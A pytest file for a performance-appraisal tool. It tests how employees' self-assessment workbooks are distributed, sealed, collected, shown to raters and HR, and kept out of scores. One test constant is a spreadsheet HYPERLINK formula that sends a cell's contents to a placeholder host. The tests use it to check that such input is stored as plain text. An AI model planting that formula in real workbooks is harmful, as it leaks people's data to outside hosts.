"""An employee's own view: handed out, come back, shown to the rater and to HR, and never in a score."""

from __future__ import annotations

import hashlib
import shutil
from dataclasses import replace
from datetime import date
from typing import TYPE_CHECKING

import openpyxl
import pytest

from filled_office import SAMPLE, entries, fill_in, form_of, office_copy
from filled_office import raters as filled_raters
from kinerja_pauh.actions.check import check
from kinerja_pauh.actions.collect import collect
from kinerja_pauh.actions.distribute import distribute
from kinerja_pauh.actions.folder import OfficeFolder
from kinerja_pauh.actions.form_building import build_forms
from kinerja_pauh.actions.read_files import ScoredForm, check_induk, score_form
from kinerja_pauh.actions.report import report
from kinerja_pauh.actions.report_context import report_context
from kinerja_pauh.actions.returns import Person, Returns, in_use
from kinerja_pauh.actions.rules import rules_for
from kinerja_pauh.actions.self_view_results import NothingAsked, self_view_results
from kinerja_pauh.actions.self_view_sharing import NotAsked, share_self_views
from kinerja_pauh.actions.self_views import (
    beside_the_rater,
    self_answers,
    self_view_materials,
    self_view_of,
    with_newest_self_views,
)
from kinerja_pauh.adapters.cell_writer import write_cells
from kinerja_pauh.adapters.closed_files import read_book
from kinerja_pauh.adapters.key_store import KeyFile
from kinerja_pauh.adapters.register.privacy import erase_person
from kinerja_pauh.appraisal.findings import Severity
from kinerja_pauh.appraisal.indicator_words import reached_text
from kinerja_pauh.appraisal.model import Behaviour, Job, Material, MaterialSource, Post
from kinerja_pauh.appraisal.scoring import score
from kinerja_pauh.appraisal.self_view import OwnResult, SelfView, about_indicator, view_materials
from kinerja_pauh.ports import Answer
from kinerja_pauh.sheets.induk_layout import PLANS, PLANS_TABLE, STAFF, STAFF_TABLE
from kinerja_pauh.sheets.inquiry_meta import read_inquiry_meta
from kinerja_pauh.sheets.inquiry_words import GUIDE, META, SELF_KIND, SELF_WORK
from kinerja_pauh.sheets.layout import FIRST_ROW
from kinerja_pauh.sheets.read_form import read_form
from kinerja_pauh.sheets.seal import SEAL, sealed_by
from kinerja_pauh.sheets.self_view_layout import EVIDENCE, HINDRANCE, REALISATION, SELF_WORK_TABLE
from memory_register import MemoryRegister
from planning_office import PEOPLE, WORLD, new_office, raters, set_in_induk
from register_entries import NOW, WHO
from self_view_office import asked_office, send_view, view_file

if TYPE_CHECKING:
    from pathlib import Path

    from kinerja_pauh.actions.outcome import FileOutcome
    from kinerja_pauh.ports import Register

PERIOD = SAMPLE.period.label
PERSON, OTHER = PEOPLE[:2]
SAID = {(1, REALISATION): 29, (1, EVIDENCE): "Buku register", (2, HINDRANCE): "Server mati tiga hari"}
HOSTILE = '=HYPERLINK("http://contoh.test/?n="&A1,"klik")'


@pytest.fixture
def root(tmp_path, tmp_path_factory) -> Path:
    return asked_office(tmp_path, tmp_path_factory)


def register_of(root: Path) -> Register:
    return WORLD.register(OfficeFolder(root).register)


def answers(root: Path) -> dict[str, Answer]:
    return self_answers(register_of(root), PERIOD)


def collected(root: Path, world=WORLD) -> FileOutcome:
    (one,) = collect(root, world).files
    return one


def codes(outcome: FileOutcome) -> list[tuple[str, str, str]]:
    return [(one.sheet, one.cell, one.code) for one in outcome.findings]


def staff_row(nip: str) -> int:
    return FIRST_ROW + [one.nip for one in SAMPLE.employees].index(nip)


def plan_row(root: Path, nip: str) -> int:
    cells = read_book(OfficeFolder(root).induk).sheets[PLANS]
    return min(row for (row, column), cell in cells.items() if column == 1 and cell.value == nip)


# --- handed out ------------------------------------------------------------------------------------------------------


def test_everybody_with_a_plan_gets_a_sealed_workbook_with_that_plan(root) -> None:
    folder = OfficeFolder(root)
    assert {path.name for path in folder.self_views.iterdir()} == {view_file(root, nip).name for nip in PEOPLE}
    book = read_book(view_file(root, PERSON))
    meta = read_inquiry_meta(book)
    assert (meta.nip, meta.period, meta.kind) == (PERSON, SAMPLE.period, SELF_KIND)
    assert meta.rater in raters()
    assert len(sealed_by(book)[0]) == 64
    column = SELF_WORK_TABLE.column("Indikator")
    shown = [c.value for (row, at), c in sorted(book.sheets[SELF_WORK].items()) if at == column and row >= FIRST_ROW]
    assert shown == [one.name for one in SAMPLE.plans[PERSON]]
    assert [one.nip for one in register_of(root).inquiries.issued(PERIOD, SELF_KIND)] == list(PEOPLE)


def test_handing_out_again_changes_nothing(root) -> None:
    before = {nip: view_file(root, nip).read_bytes() for nip in PEOPLE}
    share_self_views(root, WORLD)
    assert {nip: view_file(root, nip).read_bytes() for nip in PEOPLE} == before
    assert len(register_of(root).inquiries.issued(PERIOD, SELF_KIND)) == len(PEOPLE)


def test_only_for_named_people_and_never_for_a_stranger_or_without_a_plan(tmp_path) -> None:
    root = new_office(tmp_path / "Penilaian-2026")
    outcome = share_self_views(root, WORLD, [f"{PERSON[:8]} {PERSON[8:]}", PERSON])
    assert [path.rpartition("/")[2] for path in outcome.written] == [view_file(root, PERSON).name]
    with pytest.raises(NotAsked, match="bukan pegawai aktif yang punya rencana"):
        share_self_views(root, WORLD, ["197001011995031009"])
    induk = OfficeFolder(root).induk
    cells = read_book(induk).sheets[PLANS]
    own = {row for (row, column), cell in cells.items() if column == 1 and cell.value == OTHER}
    write_cells(induk, PLANS, {place: None for place in cells if place[0] in own})
    with pytest.raises(NotAsked):
        share_self_views(root, WORLD, [OTHER])
    outcome = share_self_views(root, WORLD)
    assert len(outcome.written) == len(PEOPLE) - 1
    assert outcome.advice.endswith("1 orang dilewati: belum punya rencana di Induk.")


def test_trouble_in_the_induk_or_a_closed_period_stops_it(root) -> None:
    register_of(root).close(PERIOD, NOW, WHO)
    outcome = share_self_views(root, WORLD)
    assert (outcome.written, [f.code for f in outcome.files[0].findings]) == ((), ["periode-ditutup"])
    set_in_induk(root, "mulai", "")
    outcome = share_self_views(root, WORLD)
    assert (outcome.written, [f.code for f in outcome.files[0].findings]) == ((), ["pengaturan-kosong"])


# --- come back -------------------------------------------------------------------------------------------------------


def test_what_was_said_is_taken_and_the_file_is_not_kept(root) -> None:
    path = send_view(root, PERSON, SAID, {1: "Jaga posko banjir"})
    one = collected(root)
    assert (one.verdict, one.findings) == ("diterima", ())
    assert one.note == "Isinya dicatat di register; berkasnya sendiri tidak disimpan di sana."
    answer = answers(root)[PERSON]
    assert answer.sha256 == hashlib.sha256(path.read_bytes()).hexdigest()
    view = self_view_of(answer)
    assert [(r.number, r.realisation, r.evidence, r.hindrance) for r in view.results] == [
        ("1", 29, "Buku register", ""), ("2", None, "", "Server mati tiga hari"),
    ]  # fmt: skip
    assert [text for _, text in view.remembered] == ["Jaga posko banjir"]


def test_collecting_again_changes_nothing(root) -> None:
    send_view(root, PERSON, {(1, REALISATION): "12 hari"})
    assert collected(root).verdict == "perlu_dilihat"
    before = register_of(root).diary()
    one = collected(root)
    assert (one.verdict, one.note) == ("perlu_dilihat", "Sudah pernah diterima; tidak dicatat dua kali.")
    assert register_of(root).diary() == before


def test_a_later_return_is_the_newer_answer(root) -> None:
    send_view(root, PERSON, SAID)
    collect(root, WORLD)
    send_view(root, PERSON, {(1, REALISATION): 31}, name="kedua.xlsx")
    assert {one.verdict for one in collect(root, WORLD).files} == {"diterima"}
    assert [r.realisation for r in self_view_of(answers(root)[PERSON]).results] == [31]
    assert len(register_of(root).inquiries.answers(PERIOD, SELF_KIND)) == 1


def test_an_entry_that_is_no_number_is_told_by_cell_and_still_shown_in_words(root) -> None:
    send_view(root, PERSON, {(1, REALISATION): "12 hari", (2, REALISATION): "1.250"})
    one = collected(root)
    assert (one.verdict, codes(one)) == (
        "perlu_dilihat", [(SELF_WORK, "G7", "angka-bersatuan"), (SELF_WORK, "G8", "angka-ambigu")],
    )  # fmt: skip
    shown = self_view_materials(register_of(root), PERIOD)[PERSON]
    assert shown[0].text == 'Realisasi menurut pegawai tertulis "12 hari".'


def test_an_empty_workbook_says_nothing_and_replaces_nothing(root) -> None:
    send_view(root, PERSON, SAID)
    collect(root, WORLD)
    send_view(root, PERSON, name="kosong.xlsx")
    empty = next(one for one in collect(root, WORLD).files if one.file == "kosong.xlsx")
    assert (empty.verdict, codes(empty)) == ("perlu_dilihat", [("", "", "lembar-kosong")])
    assert self_view_of(answers(root)[PERSON]).says_anything


@pytest.mark.parametrize(
    ("sheet", "place"),
    [(SELF_WORK, (FIRST_ROW, 6)), (SELF_WORK, (FIRST_ROW, 1)), (GUIDE, (14, 3)), (META, (10, 2))],
    ids=["target", "number", "name", "whose"],
)
def test_a_changed_locked_cell_is_refused_by_its_address(root, sheet, place) -> None:
    path = send_view(root, PERSON, SAID)
    write_cells(path, sheet, {place: 99 if place[1] == 6 else "lain"})
    one = collected(root)
    assert one.verdict == "ditolak"
    assert [(f.sheet, f.code) for f in one.findings] == [(sheet, "sel-terkunci-berubah")]
    assert one.note.startswith("Isinya tidak diambil: ada sel terkunci yang berubah.")
    assert answers(root) == {}


def test_a_changed_seal_and_a_stranger_s_workbook_are_refused(root, tmp_path) -> None:
    path = send_view(root, PERSON, SAID)
    cells = read_book(path).sheets[META]
    row = next(row for (row, column), cell in cells.items() if column == 1 and cell.value == SEAL)
    write_cells(path, META, {(row, 2): "0" * 64})
    assert [code for _, _, code in codes(collected(root))] == ["segel-berubah"]
    elsewhere = new_office(tmp_path / "lain")
    set_in_induk(elsewhere, "mulai", "2026-02-01")
    share_self_views(elsewhere, replace(WORLD, keys=KeyFile(tmp_path / "kunci.json")))
    shutil.copy(view_file(elsewhere, PERSON), path)
    one = collected(root)
    assert (one.verdict, one.note[:60]) == ("ditolak", "Lembar ini tidak dibagikan dari folder ini, dan segelnya tid")
    share_self_views(elsewhere, WORLD)
    shutil.copy(view_file(elsewhere, PERSON), path)
    assert "bersegel kantor ini, tetapi tidak tercatat" in collected(root).note


def test_another_period_and_another_office_are_refused_in_words(root, tmp_path) -> None:
    for number, (key, value) in enumerate((("periode", "Triwulan I 2026"), ("unit", "Kecamatan Lain (DATA FIKTIF)"))):
        elsewhere = new_office(tmp_path / f"lain-{number}")
        set_in_induk(elsewhere, key, value)
        (written,) = share_self_views(elsewhere, WORLD, [PERSON]).written
        shutil.copy(written, root / "2_masuk" / f"{number}.xlsx")
    other_period, other_office = collect(root, WORLD).files
    assert other_period.note == (
        f"Lembar ini untuk periode Triwulan I 2026, sedangkan folder ini untuk {PERIOD}. Taruh di 2_masuk folder "
        "periodenya."
    )
    assert other_office.note.endswith("Kecamatan Lain (DATA FIKTIF), bukan dari kantor ini. Kirim kembali.")
    assert {other_period.verdict, other_office.verdict} == {"ditolak"}


def test_a_closed_period_takes_nothing_new_and_knows_what_it_has(root) -> None:
    send_view(root, PERSON, SAID)
    collect(root, WORLD)
    register_of(root).close(PERIOD, NOW, WHO)
    send_view(root, OTHER, SAID)
    files = {one.file: one for one in collect(root, WORLD).files}
    assert files[view_file(root, PERSON).name].note == "Sudah pernah diterima; tidak dicatat dua kali."
    late = files[view_file(root, OTHER).name]
    assert late.verdict == "ditolak"
    assert late.note.startswith(f"Periode {PERIOD} sudah ditutup")
    assert set(answers(root)) == {PERSON}


def test_a_workbook_from_before_the_plan_changed_is_taken_with_a_warning(root) -> None:
    old = view_file(root, PERSON).read_bytes()
    column = PLANS_TABLE.column("Indikator")
    write_cells(OfficeFolder(root).induk, PLANS, {(plan_row(root, PERSON), column): "Indikator yang baru"})
    share_self_views(root, WORLD, [PERSON])
    send_view(root, PERSON, {(1, REALISATION): 30}, name="baru.xlsx")
    collect(root, WORLD)
    view_file(root, PERSON).write_bytes(old)
    send_view(root, PERSON, SAID, name="lama.xlsx")
    (new, late) = sorted(collect(root, WORLD).files, key=lambda one: one.file)
    assert (late.verdict, codes(late)) == ("diterima", [("", "", "lembar-lama")])
    assert new.findings == ()
    assert self_view_of(answers(root)[PERSON]).results[0].realisation == 29  # the later word of the same person


def test_somebody_who_left_is_told(root) -> None:
    send_view(root, PERSON, SAID)
    write_cells(OfficeFolder(root).induk, STAFF, {(staff_row(PERSON), STAFF_TABLE.column("Aktif")): "Tidak"})
    one = collected(root)
    assert (one.verdict, codes(one)) == ("diterima", [("", "", "pegawai-tidak-di-daftar")])
    assert [f.severity for f in one.findings] == [Severity.WARNING]


def test_of_an_erased_person_the_file_is_not_taken_again(root) -> None:
    send_view(root, PERSON, SAID)
    collect(root, WORLD)
    erase_person(register_of(root), PERSON, NOW, WHO)
    one = collected(root)
    assert one.verdict == "ditolak"
    assert answers(root) == {}


def test_the_check_of_a_closed_file_says_the_same(root) -> None:
    path = send_view(root, PERSON, {(1, REALISATION): "12 hari"})
    (one,) = check([path], WORLD).files
    assert (one.verdict, codes(one)) == ("perlu_dilihat", [(SELF_WORK, "G7", "angka-bersatuan")])
    (clean,) = check([send_view(root, OTHER, SAID)], WORLD).files
    assert (clean.verdict, clean.findings) == ("diterima", ())


def test_a_return_saved_by_libreoffice_is_taken_as_it_was_typed(root, office) -> None:
    back = root / "2_masuk" / view_file(root, PERSON).name
    with office.open(view_file(root, PERSON)) as book:
        book.hold()
        column = SELF_WORK_TABLE.column(REALISATION)
        book.write(SELF_WORK, FIRST_ROW, column, [[29.5, "Buku", "Banjir"], [0, "", ""]])
        book.recalculate()
        book.save_as(back)
    one = collected(root)
    assert (one.verdict, one.findings) == ("diterima", ())
    shown = [(r.realisation, r.evidence, r.hindrance) for r in self_view_of(answers(root)[PERSON]).results]
    assert [(str(number), *rest) for number, *rest in shown] == [("29.5", "Buku", "Banjir"), ("0", "", "")]


# --- shown -----------------------------------------------------------------------------------------------------------


def test_the_rater_is_shown_what_came_back_and_nothing_else(root) -> None:
    assert self_view_materials(register_of(root), PERIOD) == {}
    send_view(root, PERSON, SAID, {1: "Jaga posko"})
    collect(root, WORLD)
    (shown,) = self_view_materials(register_of(root), PERIOD).values()
    assert {(one.nip, one.source) for one in shown} == {(PERSON, MaterialSource.SELF)}
    first, second = SAMPLE.plans[PERSON][:2]
    assert [one.about for one in shown[:2]] == [f"No 1 · {first.name}", f"No 2 · {second.name}"]
    assert shown[0].text == f"Realisasi menurut pegawai: 29 {first.unit}. Bukti: Buku register."
    assert self_view_materials(register_of(root), "Triwulan I 2026") == {}


def test_an_answer_that_a_foreign_hand_spoilt_shows_nothing() -> None:
    register = MemoryRegister()
    register.inquiries.add(Answer(0, "l-1", SELF_KIND, PERSON, PERIOD, "00", "rusak"), NOW, WHO)
    assert self_view_materials(register, PERIOD) == {PERSON: ()}
    assert self_view_of(self_answers(register, PERIOD)[PERSON]) == SelfView()


def test_the_report_shows_what_was_said_after_the_form_went_out() -> None:
    def line(nip, source, text):
        return Material(nip, source, "No 1", text)

    old, peers = line(PERSON, MaterialSource.SELF, "lama"), line(PERSON, MaterialSource.PEERS, "rekan")
    form = (old, peers, line(OTHER, MaterialSource.SELF, "orang lain"))
    new = (line(PERSON, MaterialSource.SELF, "baru"),)
    assert with_newest_self_views(form, {PERSON: new}, PERSON) == (*new, peers)
    assert with_newest_self_views(form, {}, PERSON) == (old, peers)
    assert with_newest_self_views((), {PERSON: new}, PERSON) == new


def test_a_person_finds_the_own_words_in_the_report_though_they_came_after_the_form(tmp_path, tmp_path_factory) -> None:
    root = office_copy(tmp_path, tmp_path_factory)
    collect(root, WORLD)
    assert report(root, WORLD, nips=[PERSON]).written
    share_self_views(root, WORLD, [PERSON])
    send_view(root, PERSON, {**SAID, (3, HINDRANCE): HOSTILE}, {1: "Jaga posko"})
    collect(root, WORLD)
    (written,) = report(root, WORLD, nips=[PERSON]).written
    book = openpyxl.load_workbook(written)
    cells = [cell for sheet in book for row in sheet.iter_rows() for cell in row if cell.value is not None]
    texts = [str(cell.value) for cell in cells]
    assert "Pandangan Pegawai" in texts
    assert any(text.startswith("Kendala atau keterangan: Server mati tiga hari.\nMenurut penilai: ") for text in texts)
    assert any(f": {HOSTILE}." in text for text in texts)
    assert not any(cell.data_type == "f" and "HYPERLINK" in str(cell.value) for cell in cells)
    first = SAMPLE.plans[PERSON][0]
    own = entries()[PERSON]
    assert (
        f"Realisasi menurut pegawai: 29 {first.unit}. Bukti: Buku register.\n"
        f"Menurut penilai: {reached_text(own.indicators[0])}."
    ) in texts
    assert f"Jaga posko\nMenurut penilai: {own.behaviours[0].rating}." in texts


def test_only_the_person_s_own_words_are_set_beside_the_rater_s() -> None:
    ratee = replace(entries()[PERSON], behaviours=(Behaviour("Loyal", None),))
    about = f"No {ratee.indicators[0].number} · {ratee.indicators[0].name}"
    assert beside_the_rater(Material(PERSON, MaterialSource.PEERS, about, "kata"), ratee) == "kata"
    assert beside_the_rater(Material(PERSON, MaterialSource.SELF, "No 99 · Lain", "kata"), ratee) == "kata"
    assert beside_the_rater(Material(PERSON, MaterialSource.SELF, "Loyal", "kata"), ratee) == "kata"
    said = beside_the_rater(Material(PERSON, MaterialSource.SELF, about, "kata"), ratee)
    assert said == f"kata\nMenurut penilai: {reached_text(ratee.indicators[0])}."


def test_what_was_said_before_stands_in_the_form_and_changes_no_score(tmp_path, tmp_path_factory) -> None:
    root = asked_office(tmp_path, tmp_path_factory)
    send_view(root, PERSON, SAID, {1: "Jaga posko"})
    collect(root, WORLD)
    distribute(root, WORLD)
    rater = next(nip for nip, people in raters().items() if PERSON in people)
    book = read_book(form_of(root, rater))
    told = [one for one in read_form(book).form.materials if one.source is MaterialSource.SELF]
    assert [(one.nip, one.text) for one in told] == [
        (one.nip, one.text) for one in self_view_materials(register_of(root), PERIOD)[PERSON]
    ]
    filled = root / "2_masuk" / form_of(root, rater).name
    shutil.copy(form_of(root, rater), filled)
    fill_in(filled, filled_raters()[rater])
    silent = form_of(office_copy(tmp_path / "tanpa", tmp_path_factory), rater, "2_masuk")
    scores, without = (
        [
            (one.ratee.nip, one.work, one.behaviour, one.final, one.predicate)
            for one in score_form(read_book(path)).results
        ]
        for path in (filled, silent)
    )
    assert scores == without
    assert all(one[3] is not None for one in scores)


def test_each_rater_of_whoever_moved_is_shown_what_is_said_of_the_own_job_and_of_behaviour(root) -> None:
    induk, _ = check_induk(WORLD.read(OfficeFolder(root).induk), WORLD.now().date())
    employee = next(one for one in induk.employees if one.nip == PERSON)
    other = next(one.nip for one in induk.employees if one.nip not in {PERSON, employee.rater})
    half, second = date(2026, 6, 30), date(2026, 7, 1)
    first = Job(PERSON, "1", Post.OWN, "Lama", "", employee.rater, "", induk.period.start, half, "SK")
    jobs = (first, replace(first, number="2", rater=other, start=second, end=induk.period.end))
    plan = [replace(row, job=("", "1", "2")[n % 3]) for n, row in enumerate(induk.plans[PERSON])]
    view = SelfView(tuple(OwnResult(row.number, row.name, row.unit, typed="kata") for row in plan), (("Loyal", "x"),))
    moved = replace(induk, jobs=jobs, plans={**induk.plans, PERSON: plan})
    said = {PERSON: tuple(view_materials(PERSON, view))}
    rules, staff = rules_for(induk.rules, induk.period), {one.nip: one for one in induk.employees}
    forms = [one for one in build_forms(moved, induk.period, rules, said) if one.part]
    assert len(forms) == 2
    for form, job in zip(forms, "12", strict=True):
        lines = [one.about for one in form.materials if one.source is MaterialSource.SELF]
        assert lines == [*(about_indicator(row.number, row.name) for row in plan if row.job in {"", job}), "Loyal"]
        result = score(form.ratees[0], rules, form.rated_days)
        person = Person(result, ScoredForm(form, rules, (), (result,)))
        returns = Returns(moved, staff, {PERSON: person}, (), self_views=said)
        told = report_context(person, returns)["pandangan"]
        assert [one["tentang"] for one in told] == lines, "and the report of a job says nothing of the other one"


def test_words_that_come_in_late_give_no_rater_a_new_form_until_something_else_changes(root) -> None:
    """Whoever has begun, or is done, would be asked anew; the report shows the words all the same."""
    send_view(root, PERSON, {(1, REALISATION): 29})
    collect(root, WORLD)
    distribute(root, WORLD)
    register = WORLD.register(OfficeFolder(root).register)
    before = register.issued()
    send_view(root, PERSON, {(1, REALISATION): 31, (2, HINDRANCE): "Server mati tiga hari"}, name="lagi.xlsx")
    send_view(root, OTHER, {(1, REALISATION): 5})
    collect(root, WORLD)
    distribute(root, WORLD)
    assert register.issued() == before
    assert in_use(register) == tuple(before)

    induk = OfficeFolder(root).induk
    cells = read_book(induk).sheets[PLANS]
    row = min(row for (row, c), cell in cells.items() if c == PLANS_TABLE.column("NIP") and cell.value == PERSON)
    write_cells(induk, PLANS, {(row, PLANS_TABLE.column("Rencana Hasil Kerja")): "Rencana yang berubah"})
    distribute(root, WORLD)
    fresh = [one for one in in_use(register) if one not in before]
    (form,) = (read_form(WORLD.open_book(one.file_name, one.data)).form for one in fresh)
    assert any("31" in line.text for line in form.materials if line.nip == PERSON)


def test_the_workbook_for_hr_is_sorted_by_rater_and_names_who_is_silent(root) -> None:
    send_view(root, PERSON, SAID, {1: HOSTILE})
    send_view(root, OTHER, {(1, HINDRANCE): HOSTILE, (1, REALISATION): "=1+1"})
    collect(root, WORLD)
    outcome = self_view_results(root, WORLD)
    assert outcome.advice.startswith(f"2 orang sudah menjawab, {len(PEOPLE) - 2} belum.")
    book = openpyxl.load_workbook(outcome.written[0])
    assert book.sheetnames == ["Hasil Kerja", "Perilaku", "Belum Menjawab"]
    assert not any(cell.data_type == "f" for sheet in book for row in sheet.iter_rows() for cell in row)
    texts = [cell.value for sheet in book for row in sheet.iter_rows() for cell in row]
    assert texts.count(HOSTILE) == 2
    raters_shown = [row[0].value for row in book["Belum Menjawab"].iter_rows(min_row=6)]
    assert raters_shown == sorted(raters_shown)
    assert {row[4].value for row in book["Belum Menjawab"].iter_rows(min_row=6)} == {"Belum kembali"}


def test_who_joined_since_was_not_asked_yet_and_before_the_first_there_is_nothing(tmp_path) -> None:
    root = new_office(tmp_path / "Penilaian-2026")
    with pytest.raises(NothingAsked, match="kinerja pandangan bagikan"):
        self_view_results(root, WORLD)
    share_self_views(root, WORLD, [PERSON])
    outcome = self_view_results(root, WORLD)
    sheet = openpyxl.load_workbook(outcome.written[0])["Belum Menjawab"]
    states = {row[1].value: row[4].value for row in sheet.iter_rows(min_row=6)}
    assert states == {nip: "Belum kembali" if nip == PERSON else "Belum dibagikan" for nip in PEOPLE}
